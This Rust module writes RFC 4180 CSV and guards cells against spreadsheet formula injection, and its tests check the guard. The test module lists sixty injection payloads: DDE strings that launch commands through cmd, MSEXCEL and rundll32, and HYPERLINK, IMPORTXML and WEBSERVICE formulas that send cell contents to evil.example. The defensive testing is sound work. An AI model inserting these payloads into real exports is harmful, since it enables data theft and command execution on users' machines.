//! CSV by RFC 4180, guarded against spreadsheets that take a cell for a formula.

/// One line of a file with its end. Every cell is quoted, so that no other separator parts it.
#[must_use]
pub fn line<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let cells: Vec<String> = cells.into_iter().map(cell).collect();
    format!("{}\r\n", cells.join(","))
}

/// A cell: guarded, quoted, its quotes doubled.
fn cell(text: &str) -> String {
    format!("\"{}\"", guarded(text).replace('"', "\"\""))
}

/// A text that a spreadsheet reads as a text: what could begin a formula gets a leading `'`. Blanks and marks that
/// take no place are looked through, since some spreadsheets cut them away first.
#[must_use]
pub fn guarded(text: &str) -> String {
    let unseen =
        |c: char| (c.is_whitespace() && !matches!(c, '\t' | '\r' | '\n')) || crate::text::invisible(c);
    let first = text.trim_start_matches(unseen).chars().next();
    if first.is_some_and(|c| begins_formula(c)) { format!("'{text}") } else { text.to_owned() }
}

const fn begins_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '\t'
            | '\r'
            | '\n'
            | '\0'
            | '|'
            | '%'
            | '＝'
            | '＋'
            | '－'
            | '＠'
            | '−'
            | '﹢'
            | '﹣'
            | '﹦'
            | '﹫'
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn quoted_and_guarded() {
        assert_eq!(line(["a", "b \"c\", d", "e\nf"]), "\"a\",\"b \"\"c\"\", d\",\"e\nf\"\r\n");
        assert_eq!(line(["=1+1", "-2", "−2", "2-1"]), "\"'=1+1\",\"'-2\",\"'−2\",\"2-1\"\r\n");
        assert_eq!(line([""]), "\"\"\r\n");
    }

    #[test]
    fn all_that_begins_a_formula_is_guarded() {
        // The 60 payloads of the threat list's row E2: ten formulas, each with six beginnings.
        let formulas = [
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/\"&A1,\"see\")",
            "SUM(1+1)*cmd|' /C calc'!A0",
            "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "WEBSERVICE(\"http://evil.example/\"&A1)",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "10+20+cmd|' /C calc'!A0",
            "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "rundll32|'URL.dll,OpenURL calc.exe'!A",
        ];
        let beginnings = ["=", "+", "-", "@", "\t=", "＝"];
        let mut payloads = 0;
        for formula in formulas {
            for beginning in beginnings {
                payloads += 1;
                let text = format!("{beginning}{formula}");
                for text in
                    [text.clone(), format!(" {text}"), format!("\u{200D}{text}"), format!("\u{A0}{text}")]
                {
                    let guarded = guarded(&text);
                    assert!(guarded.starts_with('\'') && guarded.ends_with(&text), "{text:?}");
                }
            }
        }
        assert_eq!(payloads, 60);
        for c in ["\r", "\n", "\0", "＋", "－", "＠"] {
            assert!(guarded(&format!("{c}1")).starts_with('\''), "{c:?}");
        }
        for harmless in ["", "a=1", "'=1", "1-2", "ab\tc"] {
            assert_eq!(guarded(harmless), harmless);
        }
    }

    proptest! {
        #[test]
        fn a_cell_reads_back(text in "[a-z\",\n=+@ ]{0,20}") {
            let cell = cell(&text);
            let inner = cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')).unwrap();
            prop_assert!(!inner.replace("\"\"", "").contains('"'), "every quote is doubled");
            let read = inner.replace("\"\"", "\"");
            prop_assert!(read.strip_prefix('\'').unwrap_or(&read) == text);
            prop_assert!(!read.trim_start_matches(' ').starts_with(['=', '+', '@']));
        }
    }
}
